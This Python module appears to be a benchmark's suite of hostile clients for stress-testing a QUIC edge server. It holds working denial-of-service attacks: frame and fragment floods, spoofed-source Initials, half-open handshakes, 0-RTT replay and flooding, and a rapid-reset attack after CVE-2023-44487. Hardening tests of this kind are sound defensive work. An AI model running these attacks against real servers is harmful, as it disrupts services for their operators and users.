"""Attacks on an edge's QUIC port, each a coroutine against `(host, port)`.

Each returns what the attacker saw; what the attack did to the edge is for the caller to see there.
All of them let other tasks run between datagrams.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
from collections.abc import Callable, Iterable, Sequence
from contextlib import AsyncExitStack
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

from aioquic import tls
from aioquic.quic.crypto import CryptoPair
from aioquic.quic.packet import QuicPacketType, QuicProtocolVersion
from aioquic.quic.packet_builder import QuicPacketBuilder

from bench.hostile.quic_client import (
    BURST_DATAGRAMS,
    DATAGRAM_BYTES,
    TIMEOUT_S,
    Address,
    HostileClient,
    HostileQuic,
    QuicAttackResult,
    ack_frame,
    begin,
    chat_frame,
    connected,
    crypto_frame,
    linger,
    new_connection_id_frame,
    pack_frames,
    reset_frame,
    stop_frame,
    stream_frame,
    typed_frame,
    varint,
)


async def _frames(
    address: Address,
    certificate: Path | None,
    frames: Callable[[HostileClient], Iterable[bytes]],
    hold_s: float,
    **settings: Any,
) -> QuicAttackResult:
    """Connect, send all the frames, stay a little."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome, **settings) as client:

        def counted() -> Iterable[bytes]:
            for frame in frames(client):
                outcome.num_sent += 1
                yield frame

        await client.send(counted())
        await linger(client, hold_s)
    return outcome


# What makes an edge allocate.


async def doubling_offsets(
    address: Address, certificate: Path | None, *, num_frames: int = 14, hold_s: float = 0.2
) -> QuicAttackResult:
    """One byte each at the highest offset that the edge allows, which a receiver that doubles its
    window and allocates every gap pays for with gigabytes."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        stream = client.quic._get_or_create_stream_for_send(0)
        for _ in range(num_frames):
            highest = min(stream.max_stream_data_remote, client.quic._remote_max_data)
            await client.send([stream_frame(0, highest - 1, b"x")])
            outcome.num_sent += 1
            await linger(client, hold_s / num_frames)
    return outcome


async def one_byte_fragments(
    address: Address,
    certificate: Path | None,
    *,
    num_fragments: int = 20_000,
    step: int = 2,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """One byte in every `step` of a stream, never the first one: as many gaps as bytes."""
    return await _frames(
        address,
        certificate,
        lambda _: (stream_frame(0, 1 + step * at, b"x") for at in range(num_fragments)),
        hold_s,
    )


async def one_byte_frames(
    address: Address, certificate: Path | None, *, num_frames: int = 64_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """A frame of the largest size that comes byte by byte, in order, on one stream."""
    head = b"\x80\x80\x20"  # a length of 512 KiB

    def frames(_: HostileClient) -> Iterable[bytes]:
        yield stream_frame(0, 0, head)
        for at in range(num_frames):
            yield stream_frame(0, len(head) + at, b"x")

    return await _frames(address, certificate, frames, hold_s)


async def partial_frames(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 8,
    num_streams: int = 64,
    bytes_each: int = 200_000,
    hold_s: float = 1.0,
) -> QuicAttackResult:
    """Requests on many streams that begin, and never end."""
    outcome = QuicAttackResult()
    begun = b"\xff\xff\x3f" + bytes(bytes_each)  # a length of 1 MiB less one

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_streams):
                client.quic.send_stream_data(4 * number, begun)
                outcome.num_sent += 1
            client.transmit()
            await linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


async def spoofed_initials(
    address: Address,
    certificate: Path | None = None,
    *,
    num_initials: int = 2000,
    offset: int = 500_000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """First packets of as many connections, each with one byte of CRYPTO far ahead; from sockets
    at `sources`, which need not be the sender's own."""
    outcome = QuicAttackResult()
    loop = asyncio.get_running_loop()
    sockets = [
        (
            await loop.create_datagram_endpoint(
                asyncio.DatagramProtocol, remote_addr=address, local_addr=(source, 0)
            )
        )[0]
        for source in sources
    ]
    for number in range(num_initials):
        sockets[number % len(sockets)].sendto(initial([crypto_frame(offset, b"x")]))
        outcome.num_sent += 1
        if number % BURST_DATAGRAMS == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    for transport in sockets:
        transport.close()
    return outcome


def initial(frames: Iterable[bytes], token: bytes = b"") -> bytes:
    """A datagram with the first packet of a new connection, and these frames in it."""
    peer_cid, version = os.urandom(8), QuicProtocolVersion.VERSION_1
    crypto = CryptoPair()
    crypto.setup_initial(cid=peer_cid, is_client=True, version=version)
    builder = QuicPacketBuilder(
        host_cid=os.urandom(8),
        is_client=True,
        max_datagram_size=DATAGRAM_BYTES,
        peer_cid=peer_cid,
        peer_token=token,
        version=version,
    )
    builder.start_packet(QuicPacketType.INITIAL, crypto)
    payload = b"".join(frames)
    builder.start_frame(payload[0], capacity=len(payload)).push_bytes(payload[1:])
    (datagram,), _ = builder.flush()
    return datagram


async def half_open_handshakes(
    address: Address,
    certificate: Path | None,
    *,
    num_handshakes: int = 1000,
    sources: Sequence[str] = ("127.0.0.1",),
    hold_s: float = 0.5,
) -> QuicAttackResult:
    """True first flights, each from a socket of its own, that never hear the answer."""

    def deaf(quic: HostileQuic) -> None:
        quic.finishes = False

    outcome, clients = QuicAttackResult(), []
    for number in range(num_handshakes):
        source = sources[number % len(sources)]
        clients.append(await begin(address, certificate, source=source, tune=deaf))
        outcome.num_sent += 1
    await asyncio.sleep(hold_s)
    for client in clients:
        client.vanish()
    return outcome


async def crypto_fragments(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """CRYPTO after the handshake: a TLS message of 16 MiB, byte by byte."""

    def frames(_: HostileClient) -> Iterable[bytes]:
        yield crypto_frame(0, b"\x04\xff\xff\xff")
        for at in range(num_frames):
            yield crypto_frame(4 + at, b"x")

    return await _frames(address, certificate, frames, hold_s)


# What is cheap to send and costs something to look at.


async def ping_flood(
    address: Address, certificate: Path | None, *, num_packets: int = 5000, hold_s: float = 0.2
) -> QuicAttackResult:
    """PINGs in packets of their own, and no acknowledgement of any answer."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        client.quic.acknowledges = False
        for number in range(num_packets):
            await client.send([b"\x01\x00\x00\x00"])
            outcome.num_sent += 1
            if number % BURST_DATAGRAMS == 0:
                await asyncio.sleep(0.001)  # an answer to each burst
        await linger(client, hold_s)
    return outcome


async def many_pings(
    address: Address, certificate: Path | None, *, num_frames: int = 200_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """PINGs, a thousand in a packet."""
    return await _frames(address, certificate, lambda _: (b"\x01",) * num_frames, hold_s)


async def path_challenges(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """PATH_CHALLENGEs, each of which asks for an answer."""
    return await _frames(
        address,
        certificate,
        lambda _: (b"\x1a" + os.urandom(8) for _ in range(num_frames)),
        hold_s,
    )


async def connection_ids(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """NEW_CONNECTION_IDs, each of which retires the one before."""
    return await _frames(
        address,
        certificate,
        lambda _: (new_connection_id_frame(8 + at, 8 + at) for at in range(num_frames)),
        hold_s,
    )


async def retired_connection_ids(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """RETIRE_CONNECTION_IDs, for each of which another one is due, whether it was given or not."""
    return await _frames(
        address,
        certificate,
        lambda _: (b"\x19" + varint(1 + at) for at in range(num_frames)),
        hold_s,
    )


async def acknowledgements(
    address: Address, certificate: Path | None, *, num_frames: int = 2000, hold_s: float = 0.2
) -> QuicAttackResult:
    """ACKs of five hundred ranges each, of packets that were never sent."""
    return await _frames(
        address,
        certificate,
        lambda _: (ack_frame(2000, 500) for _ in range(num_frames)),
        hold_s,
    )


async def packet_number_gaps(
    address: Address, certificate: Path | None, *, num_packets: int = 5000, hold_s: float = 0.2
) -> QuicAttackResult:
    """Every second packet number is left out: as many ranges to acknowledge as packets."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        client.quic.acknowledges = False
        for _ in range(num_packets):
            client.quic.skip_packet_numbers(1)
            await client.send([b"\x01\x00\x00\x00"])
            outcome.num_sent += 1
            if outcome.num_sent % BURST_DATAGRAMS == 0:
                await asyncio.sleep(0)
        await linger(client, hold_s)
    return outcome


async def empty_stream_frames(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """STREAM frames without data, on every stream that may be opened."""
    return await _frames(
        address,
        certificate,
        lambda client: (
            stream_frame(4 * (at % client.quic._remote_max_streams_bidi), 0, b"")
            for at in range(num_frames)
        ),
        hold_s,
    )


async def rapid_resets(
    address: Address,
    certificate: Path | None,
    *,
    num_streams: int = 20_000,
    limit_s: float = 5.0,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """Streams that are opened with the beginning of a request and reset at once (as
    CVE-2023-44487), as many as the edge goes on to allow, for so long."""
    outcome = QuicAttackResult()
    async with connected(address, certificate, outcome) as client:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(limit_s):
                for number in range(num_streams):
                    while number >= client.quic._remote_max_streams_bidi:
                        # Not wait_for: in Python 3.11 it may lose the limit's cancellation.
                        async with asyncio.timeout(1.0):
                            await client.heard()
                    if client.ended.is_set():
                        break
                    stream_id = 4 * number
                    begun = stream_frame(stream_id, 0, b"\x20x")
                    await client.send((begun, stop_frame(stream_id), reset_frame(stream_id, 2)))
                    outcome.num_sent += 1
        await linger(client, hold_s)
    return outcome


async def stopped_streams(
    address: Address, certificate: Path | None, *, num_frames: int = 20_000, hold_s: float = 0.2
) -> QuicAttackResult:
    """STOP_SENDING, again and again, on the streams that may be opened."""
    return await _frames(
        address,
        certificate,
        lambda client: (
            stop_frame(4 * (at % client.quic._remote_max_streams_bidi)) for at in range(num_frames)
        ),
        hold_s,
    )


async def malformed_frames(
    address: Address, certificate: Path | None, *, num_connections: int = 50, seed: int = 1
) -> QuicAttackResult:
    """Packets that decrypt, and hold random bytes."""
    outcome, rng = QuicAttackResult(), random.Random(seed)
    for _ in range(num_connections):
        async with connected(address, certificate, outcome) as client:
            await client.send([rng.randbytes(rng.randrange(4, 1000))])
            outcome.num_sent += 1
            await linger(client, 0.05)
    return outcome


async def mutated_packets(
    address: Address,
    certificate: Path | None,
    *,
    num_packets: int = 2000,
    seed: int = 1,
) -> QuicAttackResult:
    """Datagrams of a true connection with some of their bytes changed."""
    outcome, rng = QuicAttackResult(), random.Random(seed)
    async with connected(address, certificate, outcome, records=True) as client:
        genuine = [*client.sent, *client.quic.packets([stream_frame(0, 0, b"\x20x")])]
        for _ in range(num_packets):
            datagram = bytearray(rng.choice(genuine))
            for _ in range(rng.randrange(1, 8)):
                datagram[rng.randrange(len(datagram))] = rng.randrange(256)
            client.put(bytes(datagram[: rng.randrange(1, len(datagram) + 1)]))
            outcome.num_sent += 1
            if outcome.num_sent % BURST_DATAGRAMS == 0:
                await asyncio.sleep(0)
        await linger(client, 0.1)
    return outcome


# What holds something that others could use.


async def idle_connections(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 1000,
    ping_interval_s: float = 1.0,
    hold_s: float = 5.0,
    source: str | None = None,
) -> QuicAttackResult:
    """Connections that only send PINGs; `num_sent` counts those tried."""
    outcome = QuicAttackResult()
    loop = asyncio.get_running_loop()
    async with AsyncExitStack() as stack:
        clients = []
        for _ in range(num_connections):
            outcome.num_sent += 1
            try:
                client = await stack.enter_async_context(
                    connected(address, certificate, outcome, source=source)
                )
            except TimeoutError:
                continue
            clients.append(client)
        until = loop.time() + hold_s
        while loop.time() < until and any(client.closed is None for client in clients):
            for client in clients:
                if client.closed is None:
                    await client.send([b"\x01\x00\x00\x00"])
            await asyncio.sleep(min(ping_interval_s, hold_s))
    return outcome


async def slow_readers(
    address: Address,
    certificate: Path | None,
    *,
    num_connections: int = 4,
    num_chats: int = 16,
    max_tokens: int = 1000,
    hold_s: float = 5.0,
) -> QuicAttackResult:
    """Chats whose replies are never acknowledged."""
    outcome = QuicAttackResult()

    async def one() -> None:
        async with connected(address, certificate, outcome) as client:
            client.quic.acknowledges = False
            for number in range(num_chats):
                data = chat_frame(f"Tell me all about the number {number}.", max_tokens)
                await client.send([stream_frame(4 * number, 0, data)])
                outcome.num_sent += 1
            await linger(client, hold_s)

    await asyncio.gather(*(one() for _ in range(num_connections)))
    return outcome


async def vanishing_clients(
    address: Address, certificate: Path | None, *, num_clients: int = 50, max_tokens: int = 200
) -> QuicAttackResult:
    """Clients that ask, and are gone."""
    outcome = QuicAttackResult()
    for number in range(num_clients):
        async with connected(address, certificate, outcome) as client:
            data = chat_frame(f"Question number {number}, in some detail.", max_tokens)
            await client.send([stream_frame(0, 0, data)])
            outcome.num_sent += 1
    return outcome


async def many_chats(
    address: Address,
    certificate: Path | None,
    *,
    num_chats: int = 64,
    num_connections: int = 1,
    max_tokens: int = 64,
    words: int = 50,
    hold_s: float = 5.0,
) -> QuicAttackResult:
    """Chats of one client, all at once, each with a prompt of so many words of its own."""
    outcome = QuicAttackResult()

    async def one(connection: int) -> None:
        async with connected(address, certificate, outcome) as client:
            for number in range(num_chats):
                text = " ".join(f"word{connection}x{number}x{at}" for at in range(words))
                client.quic.send_stream_data(4 * number, chat_frame(text, max_tokens))
                outcome.num_sent += 1
            client.transmit()
            await linger(client, hold_s)

    await asyncio.gather(*(one(connection) for connection in range(num_connections)))
    return outcome


async def typed_text(
    address: Address,
    certificate: Path | None,
    *,
    num_streams: int = 16,
    num_texts: int = 200,
    chars: int = 4000,
    interval_s: float = 0.05,
) -> QuicAttackResult:
    """Texts that are typed at a speed no user has, another one each time, and never sent."""
    outcome, rng = QuicAttackResult(), random.Random(1)
    async with connected(address, certificate, outcome) as client:
        for _ in range(num_texts):
            for number in range(num_streams):
                text = " ".join(f"{rng.randrange(10**6)}" for _ in range(chars // 7))
                client.quic.send_stream_data(4 * number, typed_frame(text))
                outcome.num_sent += 1
            client.transmit()
            await linger(client, interval_s)
            if client.closed is not None:
                break
    return outcome


# 0-RTT.


async def ticket_of(address: Address, certificate: Path | None) -> tls.SessionTicket:
    """A ticket to come back with, from a connection that does nothing else."""
    async with connected(address, certificate, QuicAttackResult()) as client:
        async with asyncio.timeout(TIMEOUT_S):
            await client.has_ticket.wait()
        client.quic.close()
        client.transmit()
        return client.tickets[-1]


async def early_data_flood(
    address: Address,
    certificate: Path | None,
    *,
    num_frames: int = 64_000,
    num_streams: int = 1,
    hold_s: float = 0.2,
) -> QuicAttackResult:
    """One-byte STREAM frames in 0-RTT, in order, of a handshake that is never completed."""
    outcome, ticket = QuicAttackResult(), await ticket_of(address, certificate)

    def deaf(quic: HostileQuic) -> None:
        quic.finishes = False

    client = await begin(address, certificate, ticket=ticket, tune=deaf)
    frames = (
        stream_frame(4 * (at % num_streams), at // num_streams, b"\x80") for at in range(num_frames)
    )
    for number, payload in enumerate(pack_frames(frames)):
        for datagram in client.quic.packets([payload], early=True):
            client.put(datagram)
        outcome.num_sent += 1
        if number % BURST_DATAGRAMS == 0:
            await asyncio.sleep(0)
    await asyncio.sleep(hold_s)
    client.vanish()
    return outcome


async def replayed_early_data(
    address: Address,
    certificate: Path | None,
    *,
    text: str = "hello",
    num_copies: int = 100,
    hold_s: float = 0.5,
) -> QuicAttackResult:
    """A first flight with a chat in 0-RTT, recorded and sent again from other sockets."""
    outcome, ticket = QuicAttackResult(), await ticket_of(address, certificate)
    client = await begin(address, certificate, ticket=ticket, records=True)
    flight = [
        *client.sent,
        *client.quic.packets([stream_frame(0, 0, chat_frame(text))], early=True),
    ]
    client.vanish()
    loop = asyncio.get_running_loop()
    for _ in range(num_copies):
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=address
        )
        for datagram in flight:
            transport.sendto(datagram)
        outcome.num_sent += 1
        await asyncio.sleep(0)
        transport.close()
    await asyncio.sleep(hold_s)
    return outcome


async def clocks_off_by_days(address: Address, certificate: Path | None) -> QuicAttackResult:
    """Clients that come back with tickets whose age is off by days either way (RFC 8446, section
    4.2.11.1)."""
    outcome = QuicAttackResult()
    for days in (-400, -1, 1, 400):
        ticket = await ticket_of(address, certificate)
        off = timedelta(days=days)
        shifted = replace(
            ticket,
            not_valid_before=ticket.not_valid_before - off,
            not_valid_after=ticket.not_valid_after + timedelta(days=1000),
        )
        client = await begin(address, certificate, ticket=shifted)
        outcome.num_sent += 1
        try:
            await client.established.wait()
            outcome.num_connected += client.closed is None
        finally:
            client.vanish()
    return outcome
